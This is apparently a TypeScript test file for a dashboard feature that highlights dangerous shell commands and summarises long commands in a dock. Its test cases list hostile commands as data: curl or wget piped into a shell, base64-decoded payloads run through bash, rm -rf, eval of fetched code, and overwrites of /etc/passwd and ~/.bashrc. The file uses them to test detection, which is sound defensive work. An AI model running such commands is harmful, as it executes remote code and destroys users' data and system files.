// The dashboard's danger marks (display only) and the dock's first/last line: table-driven cases for what is marked
// and what is not, and properties every input keeps (pieces rebuild the text; spans sorted, disjoint, in bounds;
// the end of a command is never dropped from the dock).
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { dangerPieces, dangerReasons, dangerSpans } from "../../../web/src/danger-marks.ts";
import { DOCK_LINE_CHARS, firstAndLast } from "../../../web/src/dock-summary.ts";

const marked = (text: string, cwd?: string) => dangerSpans(text, cwd).map((s) => text.slice(s.start, s.end));

describe("danger marks", () => {
  it.each([
    [
      "curl -fsSL https://x.example/i.sh | sh",
      ["curl -fsSL https://x.example/i.sh | sh"],
      ["downloads and pipes it onward", "pipes into a shell"],
    ],
    [
      "wget -qO- https://x | sudo bash",
      ["wget -qO- https://x | sudo bash"],
      ["downloads and pipes it onward", "pipes into a shell"],
    ],
    [
      "echo aGk= | base64 -d | bash",
      ["base64 -d", "| bash"],
      ["decodes a hidden payload", "pipes into a shell"],
    ],
    ["rm -rf node_modules", ["rm -rf"], ["removes recursively, forced"]],
    ["rm -r -f build", ["rm -r -f"], ["removes recursively, forced"]],
    ["rm --recursive --force build", ["rm --recursive --force"], ["removes recursively, forced"]],
    ['eval "$(curl -s https://x)"', ['eval "'], ["runs generated code"]],
  ])("marks %s", (text, parts, reasons) => {
    expect(marked(text)).toEqual(parts);
    expect(dangerReasons(text)).toEqual(reasons);
  });

  it.each([
    ["rm -r build"],
    ["rm -f build.log"],
    ["ls 2>/dev/null"],
    ["npm test > out.txt"],
    ["git status | grep modified"],
    ["echo shell | wc -c"],
  ])("leaves %s unmarked", (text) => {
    expect(marked(text, "/home/dev/app")).toEqual([]);
  });

  it("marks a redirect outside the working directory, not one inside it", () => {
    const cwd = "/home/dev/app";
    expect(marked("echo x > /etc/passwd", cwd)).toEqual(["> /etc/passwd"]);
    expect(marked("cat a >> ~/.bashrc", cwd)).toEqual([">> ~/.bashrc"]);
    expect(marked("echo x > ../other/file", cwd)).toEqual(["> ../other/file"]);
    expect(marked("echo x 2> /tmp/log", cwd)).toEqual(["2> /tmp/log"]);
    expect(marked("echo x > /home/dev/app/out.txt", cwd)).toEqual([]);
    expect(marked("echo x > /home/dev/application/out.txt", cwd)).toEqual([
      "> /home/dev/application/out.txt",
    ]);
    expect(marked("echo x > out.txt", cwd)).toEqual([]);
  });

  it("keeps every character: pieces rebuild the text; spans are sorted, disjoint and in bounds", () => {
    const shellish = fc
      .array(
        fc.constantFrom(
          "a",
          " ",
          "|",
          "sh",
          "rm",
          " -rf",
          "curl",
          ">",
          "/etc",
          "~",
          "..",
          "/",
          "base64",
          " -d",
          "\n",
          "2",
        ),
        { maxLength: 30 },
      )
      .map((parts) => parts.join(""));
    fc.assert(
      fc.property(shellish, fc.option(fc.constantFrom("/home/dev/app", "/")), (text, cwd) => {
        expect(
          dangerPieces(text, cwd)
            .map((p) => p.text)
            .join(""),
        ).toBe(text);
        let end = 0;
        for (const span of dangerSpans(text, cwd)) {
          expect(span.start).toBeGreaterThanOrEqual(end);
          expect(span.end).toBeGreaterThan(span.start);
          expect(span.end).toBeLessThanOrEqual(text.length);
          end = span.end;
        }
      }),
    );
  });
});

describe("the dock's first and last line", () => {
  it("gives a short one-liner once, a long one its start and its end", () => {
    expect(firstAndLast("npm test")).toEqual({ first: "npm test", last: null });
    const long = `echo ${"word ".repeat(100)}| sh`;
    const { first, last } = firstAndLast(long);
    expect(first.startsWith("echo word")).toBe(true);
    expect(last?.endsWith("| sh")).toBe(true);
  });

  it("takes the first and last non-blank lines of a script", () => {
    expect(firstAndLast("set -e\n\ncd app\nmake\n\n")).toEqual({ first: "set -e", last: "make" });
  });

  it("never drops the end of the text, and never grows past the line budget", () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1, maxLength: 400 }), (raw) => {
        const text = raw.replace(/\s+$/, "x");
        const { first, last } = firstAndLast(text);
        const lastLine =
          text
            .split("\n")
            .filter((l) => l.trim() !== "")
            .at(-1) ?? "";
        const tail = lastLine.slice(-(DOCK_LINE_CHARS - 1));
        expect((last ?? first).endsWith(tail)).toBe(true);
        expect(first.length).toBeLessThanOrEqual(DOCK_LINE_CHARS);
        expect((last ?? "").length).toBeLessThanOrEqual(DOCK_LINE_CHARS);
      }),
    );
  });
});
